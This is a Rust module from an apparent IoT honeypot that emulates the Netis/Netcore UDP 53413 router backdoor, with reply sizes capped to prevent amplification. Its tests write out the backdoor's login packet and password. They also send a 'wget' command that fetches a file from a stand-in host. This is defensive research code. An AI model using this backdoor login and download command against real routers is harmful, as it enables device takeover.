//! One source's conversation with the 53413/UDP Netis/Netcore backdoor,
//! without I/O: a datagram in, at most one datagram out.
//!
//! The source logs in with the backdoor's password and then runs shell
//! lines, as on Telnet (the same [`Terminal`]). Every reply is at most
//! [`AMPLIFICATION`] times the datagram it answers, or
//! [`MIN_REPLY`] bytes: the source of a UDP datagram is unverified,
//! so the honeypot must not be an amplifier. Rates, the table of sources and
//! the socket are the frontend's.

use crate::command::{Ran, Terminal};
use crate::Step;
use iotpot_core::escape::bytes_to_string;
use iotpot_core::profile::ProbeReply;
use iotpot_core::EventKind;
use iotpot_shell::{FetchResult, Shell, System};
use iotpot_wire::netis::{self, Kind};
use std::sync::Arc;

/// Reply size limit, as a factor of the datagram's size.
pub const AMPLIFICATION: usize = 3;
/// The smallest reply cap (a 1-byte probe must still see `Login`).
pub use iotpot_wire::netis::MIN_REPLY;

/// What one source has done so far.
#[derive(Debug)]
pub struct NetisPeer {
    device: Arc<System>,
    shell_limits: iotpot_shell::Limits,
    fetching: bool,
    /// Logged in: the source's shell.
    term: Option<Terminal>,
    /// The size of the datagram whose line waits (bounds its reply).
    waiting_len: usize,
}

impl NetisPeer {
    /// `fetching`: downloads are really fetched by the driver.
    pub fn new(device: Arc<System>, shell_limits: iotpot_shell::Limits, fetching: bool) -> Self {
        NetisPeer {
            device,
            shell_limits,
            fetching,
            term: None,
            waiting_len: 0,
        }
    }

    /// A line waits for a download: the device is busy, datagrams are
    /// recorded but not answered.
    pub fn waiting(&self) -> bool {
        self.term.as_ref().is_some_and(Terminal::waiting)
    }

    /// The backdoor's answer to one datagram (into `step.to_peer`; nothing
    /// when empty).
    pub fn datagram(&mut self, data: &[u8], now: i64, step: &mut Step) {
        if self.waiting() {
            return;
        }
        let p = &self.device.persona.profile;
        let reply = |body: &[u8]| netis::reply(body, data.len(), AMPLIFICATION);
        match netis::classify(data) {
            Kind::Probe => {
                step.to_peer = reply(match p.netis.probe_reply {
                    ProbeReply::Login => netis::LOGIN_TAIL,
                    ProbeReply::Status => netis::STATUS_TAIL,
                })
            }
            Kind::CarriageReturn => step.to_peer = reply(netis::LOGIN_TAIL),
            Kind::Login => {
                let mut shell = Shell::new(self.device.clone(), "root", self.shell_limits);
                if self.fetching {
                    shell.enable_fetching();
                }
                self.term = Some(Terminal::new(shell));
                let mut body = netis::LOGIN_OK.to_vec();
                body.extend_from_slice(p.telnet.prompt.as_bytes());
                step.to_peer = reply(&body);
                step.events.push(EventKind::LoginSuccess {
                    username: String::new(),
                    password: bytes_to_string(netis::PASSWORD),
                });
            }
            Kind::Command(line) => {
                if self.term.is_none() {
                    step.to_peer = reply(netis::LOGIN_TAIL);
                    return;
                }
                self.run(line, data.len(), now, step);
            }
            Kind::Scan18 | Kind::Other => {}
        }
    }

    /// The download the waiting line asked for: the line runs again, and
    /// its reply goes out now.
    pub fn fetched(&mut self, url: &str, result: FetchResult, now: i64, step: &mut Step) {
        let Some(line) = self.term.as_mut().and_then(|t| t.fetched(url, result)) else {
            return;
        };
        self.run(line, self.waiting_len, now, step);
    }

    /// Run a line of the logged-in source; `request_len` bounds the reply.
    fn run(&mut self, line: Vec<u8>, request_len: usize, now: i64, step: &mut Step) {
        let Some(term) = self.term.as_mut() else {
            return;
        };
        match term.run(line, now, step) {
            Ran::Waiting => self.waiting_len = request_len,
            Ran::Done { mut output, .. } => {
                output.extend_from_slice(self.device.persona.profile.telnet.prompt.as_bytes());
                step.to_peer = netis::reply(&output, request_len, AMPLIFICATION);
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use iotpot_core::deployment::Deployment;
    use iotpot_core::Profile;

    fn peer() -> NetisPeer {
        let persona = Profile::load("router-netis")
            .unwrap()
            .instantiate(&Deployment::from_seed([3; 32]));
        NetisPeer::new(
            System::new(persona, 1_700_000_000),
            iotpot_shell::Limits::default(),
            true,
        )
    }

    fn send(p: &mut NetisPeer, d: &[u8]) -> Step {
        let mut step = Step::default();
        p.datagram(d, 1_700_000_000, &mut step);
        step
    }

    #[test]
    fn login_then_commands_bounded_replies() {
        let mut p = peer();
        let mut login = b"AAAAAAAAnetcore\0".to_vec();
        login.resize(16, 0);
        let s = send(&mut p, &login);
        assert!(matches!(s.events[0], EventKind::LoginSuccess { .. }));
        let mut cmd = b"AA\0\0AAAA".to_vec();
        cmd.extend_from_slice(b"cat /proc/cpuinfo");
        let s = send(&mut p, &cmd);
        assert!(!s.to_peer.is_empty());
        assert!(s.to_peer.len() <= cmd.len() * AMPLIFICATION);
        assert!(
            matches!(&s.events[0], EventKind::CommandInput { input, known: true, .. } if input == "cat /proc/cpuinfo")
        );
    }

    #[test]
    fn a_download_waits_and_the_source_is_busy() {
        let mut p = peer();
        send(&mut p, b"AAAAAAAAnetcore\0");
        let mut cmd = b"AA\0\0AAAA".to_vec();
        cmd.extend_from_slice(b"wget http://192.0.2.1/x");
        let s = send(&mut p, &cmd);
        assert!(s.to_peer.is_empty());
        let Some(crate::Wait::Fetch(req)) = s.wait else {
            panic!("waits for the fetch: {s:?}");
        };
        assert!(p.waiting());
        assert!(send(&mut p, &cmd).to_peer.is_empty(), "busy");
        let mut s = Step::default();
        p.fetched(
            &req.url,
            FetchResult::Failed(iotpot_shell::FetchFailure::ConnectionRefused),
            1_700_000_000,
            &mut s,
        );
        assert!(!p.waiting());
        assert!(!s.to_peer.is_empty());
        assert!(s.to_peer.len() <= cmd.len() * AMPLIFICATION);
    }
}
